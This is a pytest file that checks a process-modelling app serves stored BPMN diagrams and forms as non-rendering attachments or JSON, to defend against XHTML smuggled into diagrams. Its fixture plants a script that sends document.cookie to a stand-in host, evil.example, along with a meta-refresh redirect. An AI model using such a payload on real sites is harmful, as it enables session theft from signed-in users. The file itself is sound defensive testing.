"""A stored diagram is a file to download, never a page of the app: an XML document can carry XHTML in its
extension elements (a script, a redirect), and served inline from the app's origin a browser would run it
with the signed-in person's session. Every route that gives out a stored diagram or form answers with a
type no browser renders and as an attachment; the bpmn-js pages fetch the same URL and still draw
(tests/browser, tests/maps, tests/versions and tests/modeler drive them in Chromium)."""
from __future__ import annotations

import pytest

from tests.versions.edits import deploy

XHTML = (b'<camunda:properties>\n'
         b'          <camunda:property name="deadlineKind" value="statutory" />\n'
         b'        </camunda:properties>\n'
         b'        <html xmlns="http://www.w3.org/1999/xhtml"><head>'
         b'<meta http-equiv="refresh" content="0;url=https://evil.example/" /></head>'
         b'<body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>')
PROPERTIES = (b'<camunda:properties>\n'
              b'          <camunda:property name="deadlineKind" value="statutory" />\n'
              b'        </camunda:properties>')
RENDERED = ("text/html", "application/xhtml+xml", "application/xml", "text/xml", "image/svg+xml")


def hostile(bundle):
    """A diagram whose screening deadline carries an XHTML page in its extension elements."""
    raw = bundle.bpmn["referral.bpmn"]
    at = raw.index(b'<bpmn:boundaryEvent id="screening_deadline"')
    head, tail = raw[:at], raw[at:]
    assert tail.count(PROPERTIES) >= 1
    return type(bundle)(bpmn={**bundle.bpmn, "referral.bpmn": head + tail.replace(PROPERTIES, XHTML, 1)},
                        forms=bundle.forms, policies=bundle.policies, dmn=bundle.dmn)


def assert_downloaded(response, filename: str) -> None:
    assert response.status_code == 200
    assert response.mimetype not in RENDERED
    assert response.mimetype in ("application/octet-stream", "text/plain")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f'filename="{filename}"' in disposition


@pytest.mark.parametrize("username", ["process-owner", "mash-manager", "auditor"])
def test_a_diagram_holding_xhtml_is_served_as_an_attachment_that_no_browser_renders(db, web, username):
    version = deploy(db, hostile, note="a diagram with a page hidden in it")
    url = f"/process-models/referral/versions/{version}/files/referral.bpmn"
    for asked in (url, url + "?download=1"):
        response = web(username).get(asked)
        assert_downloaded(response, f"referral-v{version}-referral.bpmn")
        # The file is still the diagram, byte for byte what was deployed (the viewers need it whole).
        assert b'<script>document.location="https://evil.example/?"' in response.data


def test_the_api_gives_diagrams_and_forms_inside_json_which_no_browser_renders(db, api):
    version = deploy(db, hostile, note="a diagram with a page hidden in it")
    response = api("process-owner").get(f"/api/v1/process-models/referral/versions/{version}")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "evil.example" in response.get_json()["diagrams"]["referral.bpmn"]
